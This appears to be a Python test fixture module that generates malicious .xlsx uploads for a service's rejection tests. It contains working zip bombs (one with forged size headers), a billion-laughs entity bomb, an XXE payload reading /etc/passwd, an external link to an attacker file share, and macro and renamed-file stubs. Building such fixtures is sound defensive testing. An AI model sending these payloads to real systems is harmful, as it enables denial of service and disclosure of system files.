"""Hostile files built from a genuine workbook: each one a way to hurt a process that opens uploads.

Every builder takes the bytes of a real template (so the file looks like what the service expects:
same sheet titles, same parts) and returns a variant that must be refused. Nothing is written to
disk. `RENAMED` holds files of other kinds saved under an .xlsx name.
"""

from __future__ import annotations

import functools
import io
import re
import struct
import zipfile
from xml.sax.saxutils import escape

from tests.support.workbooks import rewrite

SHEET = "xl/worksheets/sheet1.xml"
CONTENT_TYPES = "[Content_Types].xml"
MAIN_TYPE = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
MACRO_MAIN_TYPE = b"application/vnd.ms-excel.sheet.macroEnabled.main+xml"
EXTERNAL_LINK_TYPE = b"application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"
_DIMENSION = re.compile(rb"<dimension ref=\"[^\"]*\"\s*/>")

# -- zip bombs --------------------------------------------------------------------------------------


def _with_part(template: bytes, name: str, size: int, byte: bytes = b"\0") -> bytes:
    """The template with part `name` holding `size` repetitions of `byte` (replacing it if present)."""
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(template)) as source,
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as target,
    ):
        original = source.read(name) if name in source.namelist() else b""
        for item in source.infolist():
            if item.filename != name:
                target.writestr(item, source.read(item.filename))
        with target.open(name, "w") as member:
            member.write(original)
            chunk = byte * 2**20
            for _ in range(size // 2**20):
                member.write(chunk)
    return buffer.getvalue()


@functools.lru_cache(maxsize=8)
def zip_bomb(template: bytes, megabytes: int = 300) -> bytes:
    """The template plus a part of `megabytes` MB of zeros, deflated about 200:1."""
    return _with_part(template, "xl/media/image1.png", megabytes * 2**20)


def dense_part(template: bytes) -> bytes:
    """A smaller bomb that stays under every size limit: 8 MB of zeros in one part (about 1000:1)."""
    return rewrite(template, extra={"xl/media/image1.png": bytes(8 * 2**20)})


@functools.lru_cache(maxsize=8)
def lying_sizes(template: bytes, padding_megabytes: int = 200) -> bytes:
    """The first sheet followed by `padding_megabytes` MB of spaces, its zip entries claiming the
    original size: a reader that trusts the directory stops early, one that does not inflates all."""
    with zipfile.ZipFile(io.BytesIO(template)) as source:
        original = len(source.read(SHEET))
    return _claim_size(_with_part(template, SHEET, padding_megabytes * 2**20, b" "), SHEET, original)


def _claim_size(data: bytes, name: str, size: int) -> bytes:
    """The archive with `name`'s uncompressed size set to `size` in its local and central headers."""
    out = bytearray(data)
    end = data.rindex(b"PK\x05\x06")
    count, _, offset = struct.unpack("<HII", data[end + 10 : end + 20])
    at = offset
    for _ in range(count):
        name_length, extra_length, comment_length = struct.unpack("<HHH", data[at + 28 : at + 34])
        if data[at + 46 : at + 46 + name_length] == name.encode():
            struct.pack_into("<I", out, at + 24, size)
            local = struct.unpack("<I", data[at + 42 : at + 46])[0]
            struct.pack_into("<I", out, local + 22, size)
            return bytes(out)
        at += 46 + name_length + extra_length + comment_length
    raise LookupError(name)


# -- sheet titles -----------------------------------------------------------------------------------


def retitle(template: bytes, title: str) -> bytes:
    """The first sheet renamed `title` (any text, even what Excel would refuse), in the workbook part."""
    name = escape(title, {'"': "&quot;"}).encode()

    def patch(xml: bytes) -> bytes:
        return re.sub(rb'(<sheet [^>]*?name=")[^"]*(")', lambda m: m.group(1) + name + m.group(2), xml, count=1)

    return rewrite(template, patch={"xl/workbook.xml": patch})


# -- sheets reaching the last cell ------------------------------------------------------------------


def claimed_dimension(template: bytes) -> bytes:
    """The first sheet declaring that it spans A1:XFD1048576 (its data is still one header row)."""
    return rewrite(template, patch={SHEET: lambda xml: _DIMENSION.sub(b'<dimension ref="A1:XFD1048576"/>', xml)})


def far_cell(template: bytes, *, dimension: bytes | None, cell: str = "XFD1048576") -> bytes:
    """A real value in `cell` of the first sheet; the `<dimension>` removed (None) or set to a lie."""
    row = re.sub(r"\D", "", cell).encode()

    def patch(xml: bytes) -> bytes:
        xml = _DIMENSION.sub(b"" if dimension is None else b'<dimension ref="%s"/>' % dimension, xml)
        far = b'<row r="%s"><c r="%s"><v>1</v></c></row>' % (row, cell.encode())
        return xml.replace(b"</sheetData>", far + b"</sheetData>", 1)

    return rewrite(template, patch={SHEET: patch})


# -- XML entities ------------------------------------------------------------------------------------

BILLION_LAUGHS = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        b'<!ENTITY lol%d "%s">' % (i, (b"&lol%s;" % (b"" if i == 1 else str(i - 1).encode())) * 10)
        for i in range(1, 10)
    )
    + b"]>\n"
)
EXTERNAL_ENTITY = b'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE w [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'


def _with_prolog(prolog: bytes, reference: bytes) -> object:
    def patch(xml: bytes) -> bytes:
        body = xml.split(b"?>", 1)[1].lstrip() if xml.startswith(b"<?xml") else xml
        cell = b'<row r="2"><c r="A2" t="inlineStr"><is><t>%s</t></is></c></row>' % reference
        return prolog + body.replace(b"</sheetData>", cell + b"</sheetData>", 1)

    return patch


def billion_laughs(template: bytes) -> bytes:
    """The first sheet declaring nine levels of nested entities (10^9 'lol's) and using the last."""
    return rewrite(template, patch={SHEET: _with_prolog(BILLION_LAUGHS, b"&lol9;")})


def external_entity(template: bytes) -> bytes:
    """The first sheet pulling /etc/passwd into a cell through an external entity (XXE)."""
    return rewrite(template, patch={SHEET: _with_prolog(EXTERNAL_ENTITY, b"&xxe;")})


# -- external links and macros -----------------------------------------------------------------------


def _override(part: str, content_type: bytes) -> object:
    def patch(xml: bytes) -> bytes:
        entry = b'<Override PartName="/%s" ContentType="%s"/>' % (part.encode(), content_type)
        return xml.replace(b"</Types>", entry + b"</Types>", 1)

    return patch


def external_link(template: bytes) -> bytes:
    """A link to another workbook on a file share, as Excel saves one (part, relationship, type)."""
    part = "xl/externalLinks/externalLink1.xml"
    link = (
        b'<?xml version="1.0" encoding="UTF-8"?>\n<externalLink xmlns="http://schemas.openxmlformats.org/'
        b'spreadsheetml/2006/main"><externalBook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships" r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook></externalLink>'
    )
    rels = (
        b'<?xml version="1.0" encoding="UTF-8"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/'
        b'2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/externalLinkPath" Target="file://attacker/share/book.xlsx" TargetMode="External"/>'
        b"</Relationships>"
    )
    return rewrite(
        template,
        patch={CONTENT_TYPES: _override(part, EXTERNAL_LINK_TYPE)},
        extra={part: link, "xl/externalLinks/_rels/externalLink1.xml.rels": rels},
    )


def external_link_type_only(template: bytes) -> bytes:
    """An external-link part declared only in the content types, under an innocent name."""
    return rewrite(template, patch={CONTENT_TYPES: _override("xl/links/l.xml", EXTERNAL_LINK_TYPE)})


def vba_project(template: bytes) -> bytes:
    """Macros: a vbaProject.bin part with its content type, as an .xlsm holds."""
    return rewrite(
        template,
        patch={CONTENT_TYPES: _override("xl/vbaProject.bin", b"application/vnd.ms-office.vbaProject")},
        extra={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)},
    )


def macro_enabled_type(template: bytes) -> bytes:
    """An .xlsm renamed .xlsx: the workbook's content type says macro-enabled."""
    return rewrite(template, patch={CONTENT_TYPES: lambda xml: xml.replace(MAIN_TYPE, MACRO_MAIN_TYPE)})


# -- other kinds of file saved as .xlsx ----------------------------------------------------------------

_FILLER = bytes(range(256)) * 8  # deterministic, and without the bytes of a zip directory
RENAMED: dict[str, bytes] = {
    "elf": b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x02\x00\x3e\x00" + _FILLER,
    "pe": b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + _FILLER + b"This program cannot be run in DOS mode.",
    "png": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + _FILLER,
    "pdf": b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n" + _FILLER,
    "xls": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + _FILLER,
    "csv": "单位名称,统一社会信用代码,地区\n广州市星河数字科技有限公司,91440101MA5CXXXX0X,广东\n".encode(),
}


def docx_renamed() -> bytes:
    """A zip archive that is not a workbook (a Word document's parts)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", b'<?xml version="1.0" encoding="UTF-8"?>\n<Types/>')
        archive.writestr("word/document.xml", b'<?xml version="1.0" encoding="UTF-8"?>\n<w:document/>')
    return buffer.getvalue()
